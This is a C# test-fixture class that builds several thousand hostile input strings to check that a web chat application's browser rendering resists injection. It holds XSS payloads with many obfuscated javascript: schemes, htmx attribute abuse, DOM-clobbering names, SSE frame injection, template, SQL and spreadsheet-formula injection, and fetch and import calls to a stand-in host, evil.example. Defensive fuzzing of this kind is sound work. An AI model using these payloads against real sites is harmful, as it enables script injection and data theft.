using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;

namespace Xtablo.Browser.Tests;

/// <summary>
/// What someone might type who means harm: thousands of texts, the same in each run. If one of them did anything, it would
/// show a dialog, set <c>window.pwned</c>, or ask for an address with <c>pwned</c> in it.
/// </summary>
internal static partial class HostileTexts
{
    public const string Mark = "pwned";

    private const int Seed = 4;

    private static readonly string[] Acts =
    [
        "alert(1)", "window.pwned=1", "fetch('/pwned')", "fetch('//evil.example/pwned')", "import('//evil.example/pwned.js')", "location='/pwned'", "open('/pwned')", "new Image().src='/pwned'", "print()", "navigator.sendBeacon('/pwned')",
    ];

    private static readonly string[] Events =
    [
        "abort", "activate", "afterprint", "animationend", "animationiteration", "animationstart", "auxclick", "beforecopy", "beforecut", "beforeinput", "beforematch", "beforepaste", "beforeprint", "beforetoggle", "beforeunload", "begin", "blur", "bounce",
        "cancel", "canplay", "canplaythrough", "change", "click", "close", "contentvisibilityautostatechange", "contextlost", "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragleave", "dragover", "dragstart", "drop",
        "durationchange", "emptied", "end", "ended", "error", "finish", "focus", "focusin", "focusout", "formdata", "fullscreenchange", "gotpointercapture", "hashchange", "input", "invalid", "keydown", "keypress", "keyup", "load", "loadeddata",
        "loadedmetadata", "loadstart", "lostpointercapture", "message", "mousedown", "mouseenter", "mouseleave", "mousemove", "mouseout", "mouseover", "mouseup", "mousewheel", "offline", "online", "pagehide", "pagereveal", "pageshow", "paste", "pause",
        "play", "playing", "pointercancel", "pointerdown", "pointerenter", "pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup", "popstate", "progress", "ratechange", "repeat", "reset", "resize", "scroll", "scrollend",
        "scrollsnapchange", "search", "securitypolicyviolation", "seeked", "seeking", "select", "selectionchange", "selectstart", "show", "slotchange", "stalled", "start", "storage", "submit", "suspend", "timeupdate", "toggle", "touchcancel", "touchend",
        "touchmove", "touchstart", "transitioncancel", "transitionend", "transitionrun", "transitionstart", "unhandledrejection", "unload", "volumechange", "waiting", "webkitanimationend", "wheel",
    ];

    private static readonly string[] Tags =
    [
        "img src=x", "img src=/pwned", "img srcset=/pwned", "svg", "svg/onload", "svg><animate attributeName=href values=javascript:1", "svg><set", "svg><a", "svg><use href=/pwned#x", "svg><image href=/pwned", "svg><foreignObject><body", "svg><style", "math><mtext><style", "math><maction actiontype=statusline xlink:href=javascript:1",
        "math><annotation-xml encoding=text/html><img src=x", "video src=/pwned autoplay", "video><source src=/pwned", "audio src=/pwned", "iframe src=/pwned", "iframe srcdoc=<script>window.pwned=1</script>", "object data=/pwned", "embed src=/pwned", "form action=/pwned", "form><button formaction=/pwned", "input autofocus", "input type=image src=/pwned",
        "button popovertarget=x", "select autofocus", "textarea autofocus", "details open", "dialog open", "marquee", "body background=/pwned", "html", "a href=/pwned ping=/pwned", "a autofocus tabindex=1", "div style=background:url(/pwned)", "p style=animation-name:x", "x-pwned", "link rel=stylesheet href=/pwned", "link rel=prefetch href=/pwned",
        "meta http-equiv=refresh content=0;url=/pwned", "base href=//evil.example/", "script src=/pwned", "script type=module src=/pwned", "script", "style>@import'/pwned'", "template", "noscript><img src=/pwned", "xmp", "plaintext", "frameset", "table background=/pwned", "area href=/pwned", "portal src=/pwned", "slot", "picture><source srcset=/pwned", "track src=/pwned", "bgsound src=/pwned",
    ];

    private static readonly string[] Htmx =
    [
        "get=/pwned {0}trigger=load", "post=/pwned {0}trigger=load", "put=/pwned {0}trigger=revealed", "patch=/pwned {0}trigger=intersect", "delete=/pwned {0}trigger='every 1s'", "post=/sign-out {0}trigger=load", "get=/pwned {0}trigger='load delay:10ms'", "get=/pwned {0}trigger='sse:message'", "get=/pwned {0}trigger='load from:body'",
        "get=/pwned {0}trigger='load[{1}]'", "get=//evil.example/pwned {0}trigger=load", "action=/pwned {0}method=post {0}trigger=load", "on:load=\"{1}\"", "on::load=\"{1}\"", "on:htmx:load=\"{1}\"", "on:htmx:after:process=\"{1}\"", "on-load=\"{1}\"", "on=\"load: {1}\"", "live=\"{1}\"", "vals='js:{{x:{1}}}' {0}get=/pwned {0}trigger=load", "headers='js:{{x:{1}}}'",
        "swap-oob=true id=rows", "swap-oob=outerHTML:body", "swap-oob='beforeend:#rows'", "select-oob=#rows", "boost=true", "boost:inherited=true", "target:inherited=body", "ext=sse", "sse:connect=/pwned", "sse-connect=/pwned", "ws:connect=/pwned", "preload=true href=/pwned", "optimistic=#rows", "ignore=false {0}get=/pwned {0}trigger=load",
        "ignore {0}get=/pwned {0}trigger=load", "disable {0}get=/pwned {0}trigger=load", "config='{{\"mode\":\"cors\"}}' {0}get=//evil.example/pwned {0}trigger=load", "status:200='swap:outerHTML target:body'", "history-elt", "push-url=/pwned", "replace-url=/pwned", "confirm='js:{1}'", "preserve id=composer", "include='[name=__RequestVerificationToken]' {0}post=/pwned {0}trigger=load", "request='{{\"credentials\":true}}'",
    ];

    private static readonly string[] HtmxPrefixes = ["hx-", "data-hx-", "HX-", "hX-", "x-hx-"];

    private static readonly string[] Schemes =
    [
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\r\nscript:", "java&Tab;script:", "java&NewLine;script:", "java&#x0A;script:", "java&#9;script:", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "javascript&#58;", "java%0ascript:", "%6aavascript:", "\u0001javascript:", "\u00A0javascript:",
        "java\u200Bscript:", "java\u00ADscript:", "\u202Ejavascript:", "javascript:/*--></title></style></textarea></script>*/", "jav\u0000".TrimEnd('\0') + "ascript:", "view-source:javascript:", "feed:javascript:", "vbscript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==#", "data:image/svg+xml,<svg/onload=", "data:,", "blob:", "filesystem:", "file:///", "intent:", "//evil.example/pwned?", "http://evil.example/pwned?", "/pwned?",
    ];

    private static readonly string[] Links =
    [
        "[x]({0}{1})", "[x](<{0}{1}>)", "![x]({0}{1})", "[x]: {0}{1}\n[x]", "<{0}{1}>", "{0}{1}", "<a href=\"{0}{1}\">x</a>", "<a href={0}{1}>x", "<a href='{0}{1}' target=_blank>x</a>", "<img src=\"{0}{1}\">", "<iframe src=\"{0}{1}\">", "<form action=\"{0}{1}\"><input type=submit>", "<object data=\"{0}{1}\">", "<svg><a xlink:href=\"{0}{1}\"><text>x", "<a href=\"{0}{1}\" hx-boost=true>x</a>", "[a](x \"{0}{1}\")",
        "[![x]({0}{1})]({0}{1})", "<math href=\"{0}{1}\">x", "<base href=\"{0}{1}\">", "@import \"{0}{1}\"", "url({0}{1})",
    ];

    private static readonly string[] Breakouts =
    [
        "", "", "\">", "'>", "\"", "'", "`", "</div>", "</li></ol>", "</p></div></li>", "</bdi>", "</textarea>", "</title>", "</script>", "</style>", "</template>", "</noscript>", "</select>", "</svg>", "-->", "--!>", "]]>", "*/", "%>", "?>", "&quot;>", "&#34;&gt;", "&lt;", "\\\"", "\\u003e", "\u2028", "\u2029", "\n\n", "\r\n\r\n", "\r", "\t", "\f", "\u0085", "\u001B[2J", "\uFEFF", "<!--", "<![CDATA[", "<!doctype html>", "<?xml version='1.0'?>", "${", "{{", "<%=", "@(", "#{", "');", "\");",
    ];

    private static readonly string[] Controls =
    [
        "\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E", "\u200F", "\u061C", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD", "\u034F", "\u180E", "\u2063", "\uFE0F", "\uFE0E", "\U000E0001", "\U000E0061", "\U000E0100", "\u0301", "\u20DD", "\u0489", "\u0E33", "\u115F", "\u3164", "\u2800", "\uFFFC", "\uFFFD", "\uFFFE", "\uFFFF", "\U0001FFFE", "\uE000",
        "\u0001", "\u0008", "\u000B", "\u000C", "\u001B", "\u007F", "\u0080", "\u0085", "\u009B", "\u2028", "\u2029", "\u00A0", "\u3000", "\uFDFD", "\U0001F468\u200D\U0001F469\u200D\U0001F467", "\U0001F1EB\U0001F1F7", "\U0001F3F4\U000E0067\U000E0062\U000E007F", "שלום", "مرحبا", "ffi\uFB03", "İı", "ß", "\u1E9E", "Ａ", "𝕏", "ⓧ", "\u0430dmin",
    ];

    private static readonly string[] Frames =
    [
        "\n\ndata: x\n\n", "\n\nevent: bye\ndata: {\"reason\":\"signed-out\"}\n\n", "\r\rdata: x\r\r", "\r\n\r\nevent: reset\r\nid: 0.0\r\ndata: {}\r\n\r\n", "\nid: zzzzzzzz.999999\n", "\nretry: 99999999\n", "\n: comment\n", "data: data: data:", "event: message\nid: x\ndata: <li>", "\u2028event: bye\u2028\u2028", "\u0085event: bye\u0085\u0085", "\u000B\u000Bevent: bye\u000B\u000B", "\f\fevent: bye\f\f", "\n\n\n\n", "\ndata", "data:\n\ndata:",
    ];

    private static readonly string[] Templates =
    [
        "${7*7}", "${alert(1)}", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "#{7*7}", "@(1+1)", "@Model.Body", "@{ throw null; }", "@@@", "%s%s%n", "{0} {1} {2}", "{{0}}", "{0:D99999}", "$& $1 $` $'", "$(id)", "`id`", "%{7*7}", "*{7*7}", "[[${7*7}]]", "<c:out value=x>", "{% raw %}", "!!js/function x", "=cmd|'/c'!A1", "T[\"Sign out\"]", "'; DROP TABLE messages; --", "' OR 1=1 --", "\\'; --", "%27", "\\x3cscript\\x3e",
        "{\"__proto__\":{\"pwned\":1}}", "\"}]}</script><script>window.pwned=1</script>", "\\u003c/script\\u003e", "</script/x>", "<!--<script>", "]]>]]&gt;", "&lt;script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "+ADw-script+AD4-alert(1)", "<ſcript>", "<scr\u0130pt>", "\u3008script\u3009", "\uFF1Cscript\uFF1E", "<script\u2028>", "<\u0001script>", "<<script>>", "<script", "<", "&", "&#", "&;", "&#0;", "&#xD800;",
    ];

    // What our own scripts look for by id, name or property.
    private static readonly string[] Clobbered =
    [
        "htmx", "log", "rows", "pending", "composer", "outbox", "actions", "toast", "older", "newer", "jump", "connection", "leaving", "editing", "going", "empty", "main", "pwned", "pending-row", "message-0b5c2ad7-5d45-4b5b-9d5b-6a6c6b2f6a11",
        "body", "head", "forms", "cookie", "location", "getElementById", "querySelector", "addEventListener", "createElement", "__proto__", "constructor", "toString", "__RequestVerificationToken", "clientId", "elements", "action", "submit", "dataset", "self", "top", "parent", "fetch", "EventSource", "SharedWorker", "localStorage",
    ];

    public static IReadOnlyList<string> Long { get; } =
    [
        .. ((string[])["[", ">", "*_", "<", "(", "`", "&", "<b>", "![", "[](", "- ", "> ", "|-", "\u0301", "\u202E", "<div>", "😀", "\r"])
            .Select(piece => "x" + string.Concat(Enumerable.Repeat(piece, 9_990 / piece.EnumerateRunes().Count())) + "x"),
        "z" + string.Concat(Enumerable.Range(0, 9_000).Select(i => (char)(0x0300 + (i % 0x70)))),
    ];

    /// <summary>Of at least 3,000.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Fixed().Concat(Made(new Random(Seed))).Distinct(StringComparer.Ordinal)];

    /// <summary>As it is stored and shown: without surrounding white space, line ends as LF.</summary>
    public static string AsStored(string text) =>
        BlankLinesBefore().Replace(text.Replace("\r\n", "\n", StringComparison.Ordinal).Replace('\r', '\n').TrimEnd(), "");

    /// <summary>Those that are accepted as a name, and as which.</summary>
    public static IReadOnlyList<string> Names(int maxLength, Func<string, bool> isAccepted) =>
    [
        .. All.Concat(All.Select(text => Start(text, maxLength))).Where(isAccepted).Select(text => text.Trim().Normalize(NormalizationForm.FormC)).Distinct(StringComparer.Ordinal),
    ];

    private static string Start(string text, int maxLength) => string.Concat(text.EnumerateRunes().Where(rune => !Rune.IsControl(rune)).Take(maxLength));

    private static IEnumerable<string> Fixed() =>
    [
        .. Templates,
        .. Frames.Select(frame => $"x{frame}y"),
        .. Controls.Select(control => $"a{control}b"),
        .. Controls.Select(control => $"{control}x{control}"),
        .. Clobbered.Select(name => $"<img id={name} name={name} src=/pwned>"),
        .. Clobbered.Select(name => $"<form id={name}><input name={name} id={name}></form><a id={name}></a><a id={name} name=x href=/pwned></a>"),
        .. Events.Select(name => $"<img src=x on{name}=alert(1)>"),
        .. Schemes.SelectMany(scheme => Links.Select(link => string.Format(CultureInfo.InvariantCulture, link, scheme, "alert(1)"))),
        .. HtmxPrefixes.SelectMany(prefix => Htmx.Select(attribute => $"<div {prefix}{string.Format(CultureInfo.InvariantCulture, attribute, prefix, "alert(1)")}>x</div>")),
    ];

    private static IEnumerable<string> Made(Random random)
    {
        T Any<T>(T[] of) => of[random.Next(of.Length)];
        foreach (var name in Events)
        {
            for (var i = 0; i < 10; i++)
            {
                var quote = Any((string[])["\"", "'", "", "`"]);
                yield return $"{Any(Breakouts)}<{Any(Tags)} {Any((string[])["on", "ON", "oN", "\ton", "/on"])}{name}{Any((string[])["=", " = ", "\n=", "/="])}{quote}{Any(Acts)}{quote}>{Any(Breakouts)}";
            }
        }

        for (var i = 0; i < 400; i++)
        {
            var prefix = Any(HtmxPrefixes);
            var control = Any(Controls);
            yield return $"{Any(Breakouts)}<{Any(Tags)} {prefix}{string.Format(CultureInfo.InvariantCulture, Any(Htmx), prefix, Any(Acts))}>{Any(Frames)}";
            yield return $"{Any(Templates)}{control}{Any(Breakouts)}{string.Format(CultureInfo.InvariantCulture, Any(Links), Any(Schemes), Any(Acts))}{control}{Any(Templates)}";
        }
    }

    [GeneratedRegex("\\A(?:[^\\S\n]*\n)+", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex BlankLinesBefore();
}
